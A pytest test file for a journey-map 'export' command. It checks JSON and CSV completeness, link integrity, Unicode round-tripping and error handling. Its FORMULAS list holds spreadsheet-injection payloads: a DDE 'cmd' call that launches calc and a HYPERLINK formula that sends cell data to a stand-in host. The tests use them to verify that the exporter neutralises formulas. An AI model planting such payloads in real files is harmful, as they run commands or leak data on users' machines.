"""`journeys export`: every item of the sources exactly once, as JSON and as CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yaml

from journeys.export import restore_formula
from journeys.format.slug import is_id, slugify
from nasty_strings import NASTY_STRINGS
from sitekit import REPO, journeys_cli

Data = dict[str, Any]


def front_matter_of(path: Path) -> Data:
    """A source's front matter, read independently of the tool (PyYAML alone)."""
    text = path.read_text(encoding="utf-8-sig")
    _, yaml_text, _ = text.split("---\n", 2)
    data: Data = yaml.safe_load(yaml_text)
    return data


def as_list(value: Any) -> list[Any]:
    if value is None:
        return []
    return value if isinstance(value, list) else [value]


def item_id(item: Any) -> str:
    """The id of a pain point or opportunity item, by the contract's rule."""
    if isinstance(item, dict):
        return str(item["id"]) if "id" in item else slugify(str(item["text"]))
    return slugify(str(item))


class SourceCounts:
    """What the sources of a journeys folder hold, counted from the files themselves."""

    def __init__(self, root: Path) -> None:
        self.journeys: list[str] = []
        self.stages: list[tuple[str, str]] = []
        self.steps: list[tuple[str, str, str]] = []
        self.pains: Counter[str] = Counter()  # id -> the number of steps that name it
        self.opportunities: Counter[str] = Counter()
        self.touchpoints: set[str] = set()
        self.personas = sorted(p.stem for p in (root / "personas").glob("*.md"))
        registry = yaml.safe_load((root / "touchpoints.yml").read_text(encoding="utf-8")) or []
        self.touchpoints |= {str(t["id"]) for t in registry}
        self.metric_rows = sum(
            1
            for path in (root / "data").glob("*.csv")
            for row in list(csv.reader(path.open(encoding="utf-8-sig", newline="")))[1:]
            if any(cell.strip() for cell in row)
        )
        for path in sorted(root.rglob("*.md")):
            relative = path.relative_to(root)
            if relative.parts[0] in ("personas", "data") or path.name == "README.md":
                continue
            if any(part.startswith(("_", ".")) for part in relative.parts):
                continue
            self._journey(path)

    def _journey(self, path: Path) -> None:
        data = front_matter_of(path)
        journey_id = str(data.get("id") or slugify(path.stem))
        self.journeys.append(journey_id)
        for stage in data["stages"]:
            stage_id = str(stage.get("id") or slugify(stage["name"]))
            self.stages.append((journey_id, stage_id))
            for step in stage["steps"]:
                step_id = str(step.get("id") or slugify(str(step["action"])))
                self.steps.append((journey_id, stage_id, step_id))
                self.pains.update({item_id(p) for p in as_list(step.get("pains"))})
                self.opportunities.update({item_id(o) for o in as_list(step.get("opportunities"))})
                touchpoint = step.get("touchpoint")
                if touchpoint is not None:
                    text = str(touchpoint)
                    self.touchpoints.add(text if is_id(text) else slugify(text))


def export(cwd: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The real command, its output as bytes: a CSV's line ends are part of what it says."""
    executable = shutil.which("journeys", path=str(Path(sys.executable).parent))
    assert executable
    env = {**os.environ, "PYTHONUTF8": "1"}
    return subprocess.run(
        [executable, "export", *args], cwd=cwd, capture_output=True, env=env, timeout=300
    )


def read_csv(output: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output.decode("utf-8"), newline="")))


@pytest.fixture
def examples(tmp_path: Path) -> Path:
    shutil.copytree(REPO / "journeys", tmp_path / "journeys")
    return tmp_path


def test_json_holds_every_item_of_the_example_maps_exactly_once(examples: Path) -> None:
    result = export(examples)
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    sources = SourceCounts(examples / "journeys")
    assert data["schema_version"] == 1

    def ids(kind: str) -> list[str]:
        return [item["id"] for item in data[kind]]

    assert sorted(ids("journeys")) == sorted(sources.journeys)
    assert sorted(ids("personas")) == sources.personas
    assert sorted((s["journey"], s["id"]) for s in data["stages"]) == sorted(sources.stages)
    assert sorted((s["journey"], s["stage"], s["id"]) for s in data["steps"]) == sorted(
        sources.steps
    )
    assert sorted(ids("pain_points")) == sorted(sources.pains)
    assert sorted(ids("opportunities")) == sorted(sources.opportunities)
    assert sorted(ids("touchpoints")) == sorted(sources.touchpoints)
    assert len(data["metrics"]) == sources.metric_rows
    # Each pain point and opportunity lists every step that names it, once.
    assert {p["id"]: len(p["occurrences"]) for p in data["pain_points"]} == dict(sources.pains)
    assert {o["id"]: len(o["occurrences"]) for o in data["opportunities"]} == dict(
        sources.opportunities
    )


def test_json_links_point_at_items_that_exist(examples: Path) -> None:
    data = json.loads(export(examples).stdout)
    journeys = {j["id"]: j for j in data["journeys"]}
    steps = {(s["journey"], s["id"]): s for s in data["steps"]}
    stages = {(s["journey"], s["id"]) for s in data["stages"]}
    pains = {p["id"] for p in data["pain_points"]}
    opportunities = {o["id"] for o in data["opportunities"]}
    personas = {p["id"] for p in data["personas"]}
    for journey in data["journeys"]:
        assert set(journey["personas"]) <= personas
        assert [(journey["id"], s) for s in journey["steps"]] == [
            key for key in steps if key[0] == journey["id"]
        ]
        assert journey["page"] == f"journeys/{journey['id']}/"
    for step in data["steps"]:
        assert (step["journey"], step["stage"]) in stages
        assert set(step["pains"]) <= pains and set(step["opportunities"]) <= opportunities
        assert all((step["journey"], target) in steps for target in step["next"])
        assert step["page"] == f"journeys/{step['journey']}/#step-{step['id']}"
    for item in data["pain_points"] + data["opportunities"] + data["touchpoints"]:
        for occurrence in item.get("occurrences", item.get("steps")):
            assert (occurrence["journey"], occurrence["step"]) in steps
    for opportunity in data["opportunities"]:
        assert set(opportunity["fixes"]) <= pains
    for pain in data["pain_points"]:
        assert set(pain["fixed_by"]) <= opportunities
    future = journeys["click-and-collect-future"]
    assert future["current"] == "click-and-collect"
    assert "click-and-collect-future" in journeys["click-and-collect"]["futures"]


def test_csv_tables_have_a_row_per_step_and_per_pain_point(examples: Path) -> None:
    data = json.loads(export(examples).stdout)
    steps = export(examples, "--format", "csv")
    assert steps.returncode == 0, steps.stderr
    assert steps.stdout.startswith(b"journey,journey_title,stage,stage_name,position,step,")
    assert b"\r\n" in steps.stdout  # RFC 4180 line ends
    rows = read_csv(steps.stdout)
    assert [(r["journey"], r["step"]) for r in rows] == [
        (s["journey"], s["id"]) for s in data["steps"]
    ]
    by_step = {(r["journey"], r["step"]): r for r in rows}
    sees_ad = by_step[("click-and-collect", "sees-ad")]
    assert sees_ad["emotion"] == "4" and sees_ad["channel"] == "social"
    assert sees_ad["pains"] == "ad-shows-shoes-that-are-out-of-stock"
    assert sees_ad["metrics"] == "ctr=0.031"
    assert sees_ad["actors"] == "Busy parent"  # the persona's name, as the site shows it

    pains = export(examples, "--format", "csv", "--table", "pain-points")
    assert pains.returncode == 0, pains.stderr
    pain_rows = read_csv(pains.stdout)
    assert [r["pain_point"] for r in pain_rows] == [p["id"] for p in data["pain_points"]]
    for row, pain in zip(pain_rows, data["pain_points"], strict=True):
        assert int(row["occurrences"]) == len(pain["occurrences"])
        assert row["steps"].split() == [f"{o['journey']}/{o['step']}" for o in pain["occurrences"]]


def test_table_goes_with_csv_only(examples: Path) -> None:
    result = export(examples, "--table", "steps")
    assert result.returncode == 2
    assert b"--table goes with --format csv" in result.stderr
    result = export(examples, "--format", "csv", "--table", "personas")
    assert result.returncode == 2


def test_unicode_and_hostile_text_round_trips_through_json_and_csv(tmp_path: Path) -> None:
    texts = [s for s in NASTY_STRINGS if s.strip()]
    persona = {"name": 'Zoë, the "parent"'}
    journey = {
        "title": texts[0],
        "persona": "zoe",
        "stages": [
            {
                "name": "Stage; with: punctuation",
                "id": "stage",
                "steps": [
                    {
                        "action": value,
                        "id": f"s{i}",
                        "emotion": 3,
                        "thought": value,
                        "questions": [value, "second"],
                    }
                    for i, value in enumerate(texts)
                ],
            }
        ],
    }
    folder = tmp_path / "journeys"
    (folder / "personas").mkdir(parents=True)
    dump = yaml.safe_dump
    (folder / "personas/zoe.md").write_text(f"---\n{dump(persona)}---\n", encoding="utf-8")
    (folder / "nasty.md").write_text(
        f"---\n{dump(journey, allow_unicode=True, width=10_000)}---\n", encoding="utf-8"
    )

    result = export(tmp_path)
    assert result.returncode == 0, result.stderr
    steps = {s["id"]: s for s in json.loads(result.stdout)["steps"]}
    rows = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv").stdout)}
    raw = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv", "--raw-text").stdout)}
    for i, value in enumerate(texts):
        assert steps[f"s{i}"]["action"] == value
        assert steps[f"s{i}"]["thought"] == value
        # Neutralised for spreadsheets, exactly undone by a reader; raw with --raw-text.
        assert restore_formula(rows[f"s{i}"]["action"]) == value
        assert restore_formula(rows[f"s{i}"]["thought"]) == value
        assert raw[f"s{i}"]["action"] == value
        assert rows[f"s{i}"]["actors"] == 'Zoë, the "parent"'
        assert rows[f"s{i}"]["stage_name"] == "Stage; with: punctuation"
    assert len(rows) == len(texts)


def test_maps_with_errors_exit_1_and_export_what_loads(examples: Path) -> None:
    broken = examples / "journeys/support/missing-parcel.md"
    broken.write_text("---\ntitle: [\n---\n", encoding="utf-8")
    result = export(examples)
    assert result.returncode == 1
    assert b"journeys/support/missing-parcel.md:" in result.stderr
    assert b"Traceback" not in result.stderr
    data = json.loads(result.stdout)
    assert "missing-parcel" not in {j["id"] for j in data["journeys"]}
    assert "click-and-collect" in {j["id"] for j in data["journeys"]}


def test_export_reads_the_journeys_dir_of_mkdocs_yml(tmp_path: Path) -> None:
    shutil.copytree(REPO / "journeys", tmp_path / "maps")
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: x\nplugins:\n  - journeys:\n      journeys_dir: maps\n", encoding="utf-8"
    )
    result = journeys_cli("export", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert len(json.loads(result.stdout)["journeys"]) == len(
        SourceCounts(tmp_path / "maps").journeys
    )


FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1 already quoted",
]


def test_csv_neutralises_formulas_as_owasp_advises(tmp_path: Path) -> None:
    """A text that starts with = + - @, a tab or CR would run as a formula in a spreadsheet:
    it is written after an apostrophe, unless --raw-text asks for the text as it is."""
    journey = {
        "title": "=1+1",
        "persona": "zoe",
        "stages": [
            {
                "name": "@stage",
                "steps": [
                    {"action": value, "id": f"s{i}", "emotion": 3, "pains": [value]}
                    for i, value in enumerate(FORMULAS)
                ]
                + [{"action": "-1", "id": "number", "emotion": 3}],
            }
        ],
    }
    folder = tmp_path / "journeys"
    (folder / "personas").mkdir(parents=True)
    (folder / "personas/zoe.md").write_text("---\nname: Zoë\n---\n", encoding="utf-8")
    (folder / "f.md").write_text(f"---\n{yaml.safe_dump(journey)}---\n", encoding="utf-8")
    rows = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv").stdout)}
    for i, value in enumerate(FORMULAS):
        assert rows[f"s{i}"]["action"] == "'" + value
    assert rows["s0"]["journey_title"] == "'=1+1" and rows["s0"]["stage_name"] == "'@stage"
    assert rows["number"]["action"] == "-1"  # a plain number is no formula
    pains = read_csv(export(tmp_path, "--format", "csv", "--table", "pain-points").stdout)
    assert len(pains) >= 5 and all(p["text"][:1] == "'" for p in pains)  # some share an id
    raw = {r["step"]: r for r in read_csv(export(tmp_path, "--format", "csv", "--raw-text").stdout)}
    assert [raw[f"s{i}"]["action"] for i in range(len(FORMULAS))] == FORMULAS
    refused = export(tmp_path, "--raw-text")
    assert refused.returncode == 2 and b"--raw-text goes with --format csv" in refused.stderr
